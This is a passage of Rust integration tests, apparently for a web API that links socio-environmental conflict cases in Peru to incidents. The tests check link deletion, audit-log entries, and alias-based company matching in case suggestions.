        .delete(&format!("{links}/{case_id}"), &app.monitor, None)
        .await;
    assert_eq!(res.status, 204, "{}", res.body);
    app.delete(&format!("{links}/{case_id}"), &app.monitor, None)
        .await
        .problem(404);
    let res = app
        .get(&format!("/api/v1/events/{event_id}"), &app.researcher)
        .await;
    assert_eq!(res.body["cases"], json!([]));
    let res = app
        .get(
            &format!("/api/v1/audit?entity=event_case&entity_id={event_id}"),
            &app.admin,
        )
        .await;
    let actions: Vec<String> = items(&res)
        .iter()
        .map(|r| r["action"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(actions, ["delete", "update", "create"]);

    // A deleted case leaves the incidents it was linked to.
    app.post(&links, &app.monitor, json!({"case_id": case_id}))
        .await;
    let res = app
        .delete(&format!("/api/v1/cases/{case_id}"), &app.admin, Some("*"))
        .await;
    assert_eq!(res.status, 204, "{}", res.body);
    let res = app
        .get(&format!("/api/v1/events/{event_id}"), &app.researcher)
        .await;
    assert_eq!(res.body["cases"], json!([]));
    app.post(&links, &app.monitor, json!({"case_id": case_id}))
        .await
        .invalid_fields();
}

#[actix_web::test]
async fn suggestions_match_a_company_by_its_alias() {
    let app = spawn_app().await;
    let (event_id, _) = los_chancas_fire(&app).await;
    // Another actor record called just "SPCC" (an alias of the incident's
    // Southern Perú Copper Corporation) names the company of a case elsewhere.
    let short = create_actor(&app, json!({"name": "SPCC", "kind": "company"})).await;
    let unrelated = create_actor(&app, json!({"name": "Minera Ares", "kind": "company"})).await;
    for (name, company) in [("Tía María", &short), ("Arcata", &unrelated)] {
        let res = app
            .post(
                "/api/v1/cases",
                &app.monitor,
                json!({"name": name, "case_type": "socioambiental", "region": "Arequipa", "ubigeo": "0407", "companies": [company["id"]]}),
            )
            .await;
        assert_eq!(res.status, 201, "{}", res.body);
    }
    let res = app
        .get(
            &format!("/api/v1/events/{event_id}/case-suggestions"),
            &app.researcher,
        )
        .await;
    let list = items(&res);
    assert_eq!(list.len(), 1, "{}", res.body);
    assert_eq!(list[0]["case"]["name"], "Tía María");
    assert_eq!(list[0]["reasons"], json!(["company SPCC in both"]));
    assert_eq!(list[0]["score"], 0.3);
}
